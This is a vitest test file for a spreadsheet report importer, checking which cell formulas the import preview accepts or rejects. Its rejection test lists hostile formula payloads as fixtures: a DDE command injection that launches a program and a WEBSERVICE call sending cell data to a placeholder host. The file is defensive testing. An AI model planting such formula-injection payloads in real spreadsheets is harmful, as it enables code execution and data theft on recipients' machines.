import { expect, it } from "vitest";
import { countOfPersons, noReport } from "../import/testing";
import { openWorkbook } from "../xlsx/read/open-workbook";
import { goalColumns } from "./columns";
import { previewReport } from "./preview-report";
import { readReportWorkbook } from "./read-report-workbook";
import type { ReportFile } from "./report-file";
import { type Filled, fillWorkbook } from "./testing/fill-workbook";
import { writeReportWorkbook } from "./write-report-workbook";

type Field = Filled[string][string];

/** What an import would do with these values, each in a row of its own from the sixth on. */
async function previewOf(values: readonly Field[]) {
  const codes = values.map((_, index) => `G1.1-${index}`);
  const rules = countOfPersons;
  const file: ReportFile = {
    stamp: noReport.stamp,
    language: "en",
    title: "",
    author: "",
    createdOn: "2018-01-31",
    font: "Arial",
    lead: "",
    notice: "",
    heads: {},
    words: { yes: "Yes", no: "No", reasons: ["None"], notAllowed: "", choose: "" },
    sheets: [
      {
        name: "G1",
        title: "G1",
        columns: goalColumns,
        heads: {},
        rows: codes.map((indicator) => ({
          indicator,
          cell: "total",
          revision: 0,
          rules,
          steps: [],
          note: "",
          mayEnter: true,
          shown: { code: indicator },
          fields: {},
        })),
      },
    ],
  };
  const filled = Object.fromEntries(codes.map((code, index) => [`${code}|total`, { value: values[index]! }]));
  const bytes = await fillWorkbook(await writeReportWorkbook(file), filled);
  const { imported, problems, formulas } = previewReport(
    [{ name: "a.xlsx", upload: readReportWorkbook(openWorkbook(bytes)) }],
    {
      ...noReport,
      indicators: codes.map((code) => ({
        code,
        rules,
        tables: [],
        mayImport: true,
        maySee: true,
        cells: new Map(),
        steps: [],
      })),
    },
  );
  return {
    imported: imported.map(({ value }) => value),
    problems: problems.map(({ place, message }) => [place.at, message.key]),
    formulas: formulas.map(({ at }) => at),
  };
}

it("a number that a formula worked out is taken, and said so", async () => {
  expect(await previewOf([{ formula: "SUM(120,181)", result: 301 }, 7])).toEqual({
    imported: [
      { kind: "number", number: "301" },
      { kind: "number", number: "7" },
    ],
    problems: [],
    formulas: ["H6"],
  });
});

it("nothing is taken of a formula that reaches out, has no number, or is broken", async () => {
  const broken: Field[] = [
    { formula: "[1]Sheet1!A1", result: 1 },
    { formula: "cmd|' /C calc'!A0", result: 1 },
    { formula: 'WEBSERVICE("http://example.org/?"&A1)', result: 1 },
    { formula: 'HYPERLINK("http://example.org","1")', result: 1 },
    { formula: 'INDIRECT ("A1")', result: 1 },
    { formula: 'A1&"x"', result: "1" },
    { formula: "NOW()" },
    { formula: "1/0", result: "#DIV/0!" },
  ];
  expect(await previewOf(broken)).toEqual({
    imported: [],
    formulas: [],
    problems: broken.map((_, index) => [`H${index + 6}`, "formula"]),
  });
});
